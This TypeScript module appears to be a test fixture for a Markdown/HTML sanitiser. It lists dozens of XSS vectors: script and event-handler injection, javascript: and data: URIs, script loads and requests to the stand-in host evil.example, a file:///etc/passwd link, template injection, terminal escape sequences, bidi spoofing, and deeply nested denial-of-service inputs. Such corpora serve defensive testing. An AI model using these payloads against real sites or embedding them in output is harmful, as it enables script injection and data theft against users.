/**
 * Texts that would run a script, send a request or leave their place if anything took them for markup:
 * the families of OWASP's filter-evasion list, what Markdown adds to them, and terminal tricks. Each
 * sets `window.pwned`, opens a dialog or asks `evil.example` when it gets through.
 */
const js = 'window.pwned=1';

const html = [
	`<script>${js}</script>`,
	`<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
	`<script src="//evil.example/x.js"></script >`,
	`<scr<script>ipt>${js}</scr</script>ipt>`,
	`<img src=x onerror="${js}">`,
	`<IMG SRC="javascript:${js}">`,
	`<img src="https://evil.example/i.png">`,
	`<img srcset="https://evil.example/s.png 1x">`,
	`<img/src='x'/onerror=${js}>`,
	`<img """><script>${js}</script>">`,
	`<svg onload="${js}"></svg>`,
	`<svg><script>${js}</script></svg>`,
	`<svg><animate onbegin="${js}" attributeName=x dur=1s></svg>`,
	`<svg><use href="https://evil.example/u.svg#x"></use></svg>`,
	`<svg><a xlink:href="javascript:${js}"><text>x</text></a></svg>`,
	`<math><mtext><table><mglyph><style><img src=x onerror="${js}"></style></mglyph></table></mtext></math>`,
	`<iframe src="javascript:${js}"></iframe>`,
	`<iframe srcdoc="<script>parent.${js}</script>"></iframe>`,
	`<object data="https://evil.example/o.swf"></object>`,
	`<embed src="https://evil.example/e.swf">`,
	`<link rel=stylesheet href="https://evil.example/s.css">`,
	`<link rel=dns-prefetch href="//evil.example">`,
	`<style>@import url(https://evil.example/i.css);</style>`,
	`<div style="background:url(https://evil.example/b.png)">x</div>`,
	`<body onload="${js}">`,
	`<input autofocus onfocus="${js}">`,
	`<details open ontoggle="${js}">x</details>`,
	`<video><source onerror="${js}"></video>`,
	`<audio src="https://evil.example/a.mp3" autoplay></audio>`,
	`<marquee onstart="${js}">x</marquee>`,
	`<form action="https://evil.example"><button>x</button></form>`,
	`<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
	`<base href="https://evil.example/">`,
	`<template><script>${js}</script></template>`,
	`<noscript><p title="</noscript><img src=x onerror=${js}>"></noscript>`,
	`<!--<img src="--><img src=x onerror=${js}//">`,
	`<![CDATA[<img src=x onerror=${js}>]]>`,
	`<a href="javascript:${js}">x</a>`,
	`<xss style="animation-name:x" onanimationstart="${js}"></xss>`,
	`\u003cimg src=x onerror=${js}\u003e`,
	`&lt;img src=x onerror=${js}&gt;`,
	`&#60;script&#62;${js}&#60;/script&#62;`
] as const;

const markdown = [
	`[x](javascript:${js})`,
	`[x](JaVaScRiPt:${js})`,
	`[x](java\tscript:${js})`,
	`[x](&#106;avascript:${js})`,
	`[x](&#x6A&#x61&#x76&#x61script:${js})`,
	`[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==)`,
	`[x](vbscript:msgbox(1))`,
	`[x](file:///etc/passwd)`,
	`[x](/admin/users "${js}")`,
	`[x](//evil.example/a)`,
	`[x](https://portal@evil.example/a)`,
	`<javascript:${js}>`,
	`![x](https://evil.example/m.png)`,
	`![x](javascript:${js})`,
	`![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5wd25lZD0xIi8+)`,
	`![x](https://evil.example/"onerror="${js})`,
	`[![x](https://evil.example/b.png)](javascript:${js})`,
	`[x]: javascript:${js}\n\n[x]`,
	`![x][y]\n\n[y]: https://evil.example/r.png`,
	'```html" onmouseover="window.pwned=1\n<img src=x onerror=window.pwned=1>\n```',
	`\`<img src=x onerror=${js}>\``,
	`| <img src=x onerror=${js}> | b |\n| --- | --- |\n| <script>${js}</script> | [x](javascript:${js}) |`,
	`# <img src=x onerror=${js}>`,
	`> <iframe src=javascript:${js}></iframe>`,
	`- [ ] <svg onload=${js}>`,
	`{@html '<img src=x onerror=${js}>'}`,
	`{{constructor.constructor('${js}')()}}`,
	`\${${js}}`
] as const;

const tricks = [
	'\u202Egnp.exe\u202C right to left',
	'\u2066\u202Ehidden\u2069',
	'zero\u200Bwidth\u200D\uFEFF',
	'\u001b]0;owned\u0007\u001b[2J\u001b]8;;https://evil.example\u001b\\link\u001b]8;;\u001b\\',
	'\u0000\u0008\u007f',
	'Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e'.repeat(40),
	`${'>'.repeat(5_000)} deep`,
	`${'['.repeat(3_000)}x${'](y)'.repeat(3_000)}`,
	'_a_'.repeat(10_000)
] as const;

export const vectors: readonly string[] = [...html, ...markdown, ...tricks];
